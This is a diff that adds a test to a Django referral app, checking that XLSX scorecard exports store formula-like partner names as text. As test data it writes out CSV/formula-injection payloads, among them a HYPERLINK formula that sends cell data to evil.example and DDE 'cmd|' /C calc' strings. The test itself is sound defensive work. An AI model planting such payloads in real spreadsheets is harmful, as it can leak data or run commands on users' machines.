@@ -135,6 +135,32 @@ class ScorecardTestCase(ReferralTestCase):
         self.assertIn(("Ending within 30 days", "Rehab Segera"), [r[:2] for r in agreements])
         self.assertEqual(len(agreements), 1)  # Yayasan Baru is only verified: no agreement is expected yet
 
+    def test_the_xlsx_stores_names_that_look_like_formulas_as_text(self):
+        hostile = {
+            self.lbh.pk: '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+            self.lpk.pk: "+62 812 SUM(A1:A9)",
+            self.ending.pk: "-1+cmd|' /C calc'!A0",
+            self.verified.pk: "@SUM(1+1)*cmd|' /C calc'!A0",
+        }
+        for pk, name in hostile.items():
+            Partner.objects.filter(pk=pk).update(name=name)
+        self.ending.agreements.update(number_office="\t=1+1")
+        with_cr = make_partner(self.cirebon, name="Baru", status=Partner.Status.VERIFIED)
+        Partner.objects.filter(pk=with_cr.pk).update(name="\r=2+2")
+        pack = scorecards.evaluation_pack(self.cirebon, self.start, self.today)
+        book = load_workbook(io.BytesIO(exports.pack_xlsx(pack)))
+        names = {c.value: c for c in book["Scorecards"]["A"][1:]}
+        for name in hostile.values():
+            self.assertEqual(names[name].data_type, "s", name)
+            self.assertTrue(names[name].quotePrefix, name)
+        # XML reads a carriage return back as a line feed; the cell is still text.
+        self.assertEqual(names["\n=2+2"].data_type, "s")
+        agreements = {c.value: c for row in book["Agreements"].iter_rows(min_row=2) for c in row}
+        self.assertEqual(agreements["\t=1+1"].data_type, "s")
+        self.assertEqual(agreements[hostile[self.ending.pk]].data_type, "s")
+        every_cell = [c for sheet in book for row in sheet.iter_rows() for c in row]
+        self.assertNotIn("f", {c.data_type for c in every_cell})
+
     def test_the_pdf_has_pages_and_the_figures_of_the_database(self):
         pack = scorecards.evaluation_pack(self.cirebon, self.start, self.today)
         html = exports.pack_html(pack)
